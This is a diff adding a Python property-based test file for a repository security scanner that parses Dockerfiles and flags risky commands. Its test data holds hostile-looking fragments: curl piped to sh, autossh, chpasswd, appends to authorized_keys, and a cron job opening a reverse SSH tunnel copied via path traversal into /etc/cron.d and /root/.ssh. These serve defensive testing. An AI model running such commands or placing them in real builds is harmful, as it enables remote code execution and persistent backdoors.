@@ -1,0 +1,95 @@
+"""Whatever stands in a repository: the check ends, nothing is run, nothing outside is read, and what is wrong is told."""
+
+import time
+from pathlib import Path
+
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from scanner.checking import builds, check
+from scanner.checking.placing import Tree, placed
+from scanner.checking.rules.commands import installs, urls
+from scanner.checking.rules.tunnel_tool import of_url
+from scanner.detectors.launchers.shell import Command
+from scanner.dockerfile import parse
+from scanner.errors import ScannerError
+from tests.checking.repository import said, written
+
+PIECES = st.sampled_from(
+    """FROM|a|AS|b|\n|\\\n|RUN|COPY|ADD|--from=b|--mount=type=ssh|<<EOF|EOF|ENV|ARG|K=|$K|${K:-|}|WORKDIR|/..|CMD|["|"]|,|ONBUILD|HEALTHCHECK|
+    ENTRYPOINT|SHELL|curl https://a.example/x|\\||sh|&&|"|'|`|#|apt-get install|autossh|chpasswd|>>|authorized_keys|\x00|\xff|*|?|[|../|./|~""".split(
+        "|"
+    )
+)
+TEXTS = st.lists(PIECES, max_size=60).map(" ".join)
+
+
+@settings(max_examples=150, deadline=None)
+@given(TEXTS)
+def test_any_text_becomes_stages_whose_lines_are_the_files(text: str) -> None:
+    try:
+        file = parse(text, "Dockerfile")
+    except ScannerError:
+        return
+    build = builds.read(file, text)
+    for stage in build.stages:
+        assert len(stage.script.split("\n")) == len(stage.starting.split("\n")) == len(build.text) + 1
+        where, _ = placed(build, stage, Tree(("a", "b/c", "b/d/e")), lambda _: True)
+        assert all(name in ("a", "b/c", "b/d/e") and ".." not in path.split("/") for path, name in where.items())
+
+
+@settings(max_examples=8, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
+@given(
+    st.lists(
+        st.one_of(TEXTS.map(lambda t: ("FROM a\n" + t).encode("latin-1", "replace")), st.binary(max_size=300)),
+        min_size=3,
+        max_size=3,
+    )
+)
+def test_no_bytes_break_the_check(tmp_path: Path, contents: list[bytes]) -> None:
+    root = written(
+        tmp_path, dict(zip((".git/HEAD", "Dockerfile", "x.sh", "compose.yaml"), (b"", *contents), strict=True))
+    )
+    report = check([root])
+    for finding in report.findings:
+        assert finding.source is not None
+        lines = (root / finding.source.file).read_bytes().count(b"\n") + 1
+        assert 1 <= finding.source.line <= lines
+
+
+@settings(max_examples=300, deadline=None)
+@given(st.lists(st.one_of(PIECES, st.text(max_size=12)), min_size=1, max_size=12))
+def test_any_words_are_a_command(words: list[str]) -> None:
+    command = Command((words[0] or "pip", *words[1:]), 1)
+    for package in installs(command):
+        assert package.name
+    for url in urls(command):
+        of_url(url)
+
+
+def test_a_copy_reaches_nothing_outside_the_repository(tmp_path: Path) -> None:
+    written(tmp_path, {"secret/authorized_keys": "ssh-ed25519 AAAA me\n", "job": "* * * * * root ssh -R 1:a:2 h\n"})
+    text = "FROM a\nCOPY ../job ../../job /etc/cron.d/\nCOPY ../secret /root/.ssh\n"
+    root = written(tmp_path / "r", {".git/HEAD": "", "Dockerfile": text})
+    assert {rule for rule, *_ in said(check([root]))} <= {"build/key"}
+
+
+@pytest.mark.parametrize(
+    ("kind", "text"),
+    [
+        ("stages", "".join(f"FROM s{n - 1} AS s{n}\nRUN true\n" for n in range(1, 400))),
+        ("copies", "FROM a\n" + "COPY * ** ?* /x/\n" * 2000),
+        (
+            "variables",
+            "FROM a\n" + "".join(f"ENV A{n}=$A{n - 1}$A{n - 1}\n" for n in range(1, 300)) + "RUN curl $A299 | sh\n",
+        ),
+        ("words", "FROM a\nRUN apt-get install " + "x " * 30000 + "\n"),
+        ("lines", "FROM a\nRUN true \\\n" + "  && true \\\n" * 5000 + "  && true\n"),
+    ],
+)
+def test_large_files_take_bounded_time(tmp_path: Path, kind: str, text: str) -> None:
+    root = written(tmp_path, {".git/HEAD": "", "Dockerfile": text, **{f"f{n}": "" for n in range(50)}})
+    begin = time.process_time()
+    check([root])
+    assert time.process_time() - begin < 8, kind
